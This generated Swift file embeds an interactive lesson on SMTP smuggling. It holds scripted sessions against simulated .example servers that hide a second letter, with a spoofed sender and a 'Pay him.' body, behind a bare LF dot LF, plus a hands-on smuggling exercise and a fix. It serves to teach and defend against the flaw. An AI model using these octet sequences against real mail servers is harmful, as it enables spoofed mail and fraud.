// Written by Scripts/embed-lessons from the folder Lessons: change those files, then run it again.
// swift-format-ignore-file

extension EmbeddedLessons {
static let smuggling = Files(
name: "smuggling", text: #"""
---
id: smuggling
number: 22
title: Two letters in one
unit: E
goal: See how two programs that disagree about a line's end make two letters of one.
minutes: 20
needs: [hand-smtp]
rfc: [5321#2.3.8, 5321#4.1.1.4, 5321#4.5.2, 5321#7.1, 5321#7.9]
draw: {boss: name, thing: word, other: word}
runs:
  plain:
    scenario: two-tastes.yaml
    talk: {lenient: mx.north.example, strict: mx.south.example}
    script:
      - lenient:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0d 0a 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
      - strict:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0d 0a 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
  stuffed:
    scenario: two-tastes.yaml
    talk: {lenient: mx.north.example, strict: mx.south.example}
    script:
      - lenient:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0d 0a 2e 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
      - strict:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0d 0a 2e 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
  main:
    scenario: two-tastes.yaml
    talk: {lenient: mx.north.example, strict: mx.south.example}
    script:
      - lenient:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0a 2e 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
      - strict:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0a 2e 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
  mixed:
    scenario: two-tastes.yaml
    talk: {lenient: mx.north.example, strict: mx.south.example}
    script:
      - lenient:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0a 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@north.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
      - strict:
          - EHLO relay.example
          - "MAIL FROM:<mallory@evil.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "!batch"
          - "Subject: $thing"
          - ""
          - "!octets 48 65 6c 6c 6f 0a 2e 0d 0a"
          - "MAIL FROM:<$boss@south.example>"
          - "RCPT TO:<bob@south.example>"
          - DATA
          - "Subject: $other"
          - ""
          - "Pay him."
          - "."
          - "!send"
          - QUIT
events:
  end: {client: lenient, kind: content}
  taken: {client: lenient, kind: content, reply: true}
  refusal: {client: strict, kind: content, reply: true}
values:
  seam: {offset: 0a 2e 0a, connection: 1, from: client}
---
# Two letters in one

## Where does a letter end?

A line of SMTP ends with two octets: CR, which is 0d, and LF, which is 0a.
A letter ends with a line that holds one dot: CR LF dot CR LF, or 0d 0a 2e 0d 0a.

What if somebody says only LF? One server shrugs and takes it for a line's end. Another one does not.
Today you look at two servers that hear the very same octets:

- mx.south.example is strict: only CR LF ends a line
- mx.north.example is lenient: LF alone will do

```read
id: tastes
```

## Four ways to end, the lenient server

Mallory writes a letter, and puts a second one behind it: MAIL FROM:<$boss@south.example>, RCPT, DATA, and so on.
Between the two letters she says one of four things. Then all of it goes to the server, as one piece.
The second letter ends with an honest CR LF dot CR LF.

```predict
id: lenient
parts:
  - ask: Between them stands CR LF dot CR LF. How many letters will bob have at the lenient server?
    run: plain
    answer: {store: bob@north.example}
    expect: 2
  - ask: And when CR LF dot dot CR LF stands between them?
    run: stuffed
    answer: {store: bob@north.example}
    expect: 1
  - ask: And when LF dot LF stands between them?
    answer: {store: bob@north.example}
    expect: 2
  - ask: And when LF dot CR LF stands between them?
    run: mixed
    answer: {store: bob@north.example}
    expect: 2
hints:
  - For this server LF ends a line, with a CR before it or without. When does a line hold one dot and nothing else?
  - Two dots are a line of the letter that began with a dot; the first one is taken away.
  - Only the two dots keep the letters together. The other three are ends.
why: >
  CR LF dot CR LF ends a letter everywhere, and what follows is an honest second one. Two dots end nothing (RFC 5321
  section 4.5.2). For the lenient server, LF dot LF and LF dot CR LF end a letter as well: so it takes two.
```

## The same, for the strict server

Now the same octets go to the server that knows CR LF only. For it, a lone LF is just an odd octet in a line.
Our strict server does one thing more: a letter with such a hidden dot in it looks like an attempt, and it refuses the whole.

```predict
id: strict
parts:
  - ask: Between them stands CR LF dot CR LF. How many letters will bob have at the strict server?
    run: plain
    answer: {store: bob@south.example}
    expect: 2
  - ask: And when CR LF dot dot CR LF stands between them?
    run: stuffed
    answer: {store: bob@south.example}
    expect: 1
  - ask: And when LF dot LF stands between them?
    answer: {store: bob@south.example}
    expect: 0
  - ask: And when LF dot CR LF stands between them?
    run: mixed
    answer: {store: bob@south.example}
    expect: 0
hints:
  - The first two have proper line ends. What is proper is the same for both servers.
  - In the last two the strict server sees one long letter, and a hidden dot in it.
  - What it refuses lies in no maildrop.
why: >
  A server must not take anything but CR LF for a line's end (RFC 5321 section 2.3.8), and LF dot LF in particular
  must not end the mail data (section 4.1.1.4). For the strict server there is one letter, and it may
  refuse it for a reason of its own (section 7.9). In no case does it make two out of one.
```

## Find the seam

These are the octets of one letter, as the lenient server heard them. Somewhere in them is the seam: 0a 2e 0a.

Octets are counted from 0 along everything that the client said. The number at the beginning of a
row is that of the row's first octet, and there are sixteen in a row.

```find
id: seam
show: {bytes: {event: end}}
ask: At which octet does the seam begin, the first 0a of 0a 2e 0a?
answer: {offset: 0a 2e 0a, connection: 1, from: client}
hints:
  - Hello comes right before it, 48 65 6c 6c 6f.
  - Find the row, then count along it. The row's number is that of its first octet.
  - In the row's right half a dot stands for any octet that is no letter. Look for Hello and three dots.
why: >
  The seam is at octet @seam. No CR in sight: for one server three odd octets within a letter, for the other one the
  end of it. (RFC 5321 section 4.1.1.4)
```

## Too many answers

This is the whole talk with the lenient server, as a strict reader sees it: one letter, and then QUIT.
But look at what the server says behind the letter. It answers commands that nobody seems to have given.

```find
id: answers
show: {connection: 1, explain: false, from: {event: end}}
find: {client: lenient, from: server, after: {event: taken}, before: {client: lenient, verb: QUIT}}
every: true
ask: Which steps are answers to the smuggled commands? Name them all, such as 1.3, 1.4.
hints:
  - The answer to the letter is the step right behind it. It is not one of them.
  - The answer to QUIT has the code 221. All that stand between these two were not asked for.
  - There is one for each of MAIL, RCPT, DATA and the second letter.
why: >
  Behind @taken come four answers: to MAIL, RCPT, DATA, and the second letter. A client that counts
  its answers can see that something went wrong. The one that was fooled is bob: his second letter comes
  from $boss@south.example, says the envelope, through a host that everybody trusts. (RFC 5321 section 7.1)
reveal: {letter: {maildrop: bob@north.example, nth: last}}
```

## Smuggle one yourself

The lenient server waits for you. Hand it two letters, but say CR LF dot CR LF only once.

In this step a line may hold escapes: \n is LF, and \c at the end of a line leaves out the CR LF that Enter adds.
So a line such as Hello\n.\n\c says Hello, LF, dot, LF, and nothing more.

```type
id: hand
to: mx.north.example
escapes: true
goals:
  - say: Two letters lie in bob's maildrop
    check: {store: bob@north.example, equals: 2}
  - say: CR LF dot CR LF was said once, and no more
    check: {occurrences: 0d 0a 2e 0d 0a, connection: 1, from: client, equals: 1}
model:
  - EHLO learner.example
  - "MAIL FROM:<me@learner.example>"
  - "RCPT TO:<bob@north.example>"
  - DATA
  - "Subject: One"
  - ""
  - Hello\n.\n\c
  - "MAIL FROM:<$boss@south.example>"
  - "RCPT TO:<bob@north.example>"
  - DATA
  - "Subject: Two"
  - ""
  - Pay him.
  - .
  - QUIT
hints:
  - "Begin as always: EHLO, MAIL, RCPT, DATA, a header line, an empty line."
  - "End the first letter with the line Hello\\n.\\n\\c, then say MAIL, RCPT and DATA again, each with Enter."
  - The second letter ends as usual, with a line that holds one dot. Then say QUIT.
why: >
  The server took LF for a line's end, so your first letter was over before you had said a proper end.
  Whoever stood between you and it, and read strictly, handed on one letter. Bob has two. (RFC 5321 section 2.3.8)
```

## Mend it

You run mx.north.example. Mallory's octets come again. Choose what ends a line.

```fix
id: mend
run:
  like: main
  set: {domains/north.example/service/quirks: $taste}
settings:
  - name: taste
    say: What ends a line at mx.north.example?
    options: ["[lf-ends-line]": LF will do, "[]": CR LF only]
    now: "[lf-ends-line]"
goals:
  - say: The server refuses the letter with the hidden dot
    check: {code: {event: taken}, equals: 554}
  - say: Bob has no smuggled letter
    check: {store: bob@north.example, equals: 0}
model: {taste: "[]"}
hints:
  - There are two choices, and one of them made the trouble.
  - The standard allows one of them only. RFC 5321 section 2.3.8.
  - CR LF only.
why: >
  With CR LF as the only end of a line there is nothing to disagree about. Being lenient looked kind, but a
  border that two sides draw differently is a hole. (RFC 5321 sections 2.3.8 and 4.1.1.4)
```

## One last claim

```argue
id: meaning
show: [{connection: 1, explain: false, from: {event: end}}, {connection: 2, explain: false, from: {client: strict, kind: content}}]
say: The same octets mean the same to every server.
verdict: false
evidence:
  - {ask: "The step in which the lenient server answers the letter", find: {event: taken}}
  - {ask: "The step in which the strict server answers the same octets", find: {event: refusal}}
hints:
  - Compare the answers of both servers, right behind the letter.
  - The lenient server's is in connection 1, the strict one's in connection 2.
  - One begins with 250, the other one with 554.
why: >
  @taken says 250 and @refusal says 554, to octets that do not differ. What octets mean is agreed upon, in a standard,
  or it is not agreed upon at all. (RFC 5321 section 2.3.8)
```

Where a line ends is no matter of taste. A letter that one program reads as one and the next as two
carries a second letter past every check of the first.

"""#, companions: [
"two-tastes.yaml": #"""
# Two servers: one ends a line only at CR LF, the other one at LF as well.
name: two-tastes
summary: The same octets for two servers that disagree about the end of a line.
step-by-step: true
seed: 21
start: 2026-01-05T09:00:00Z

domains:
  - name: south.example
    mx: [mx.south.example]
    pop: pop.south.example
    users:
      - {name: bob, password: builder}
  - name: north.example
    mx: [mx.north.example]
    pop: pop.north.example
    users:
      - {name: bob, password: builder}
    service: {quirks: [lf-ends-line]}

"""#,
], translations: [
:
])
}
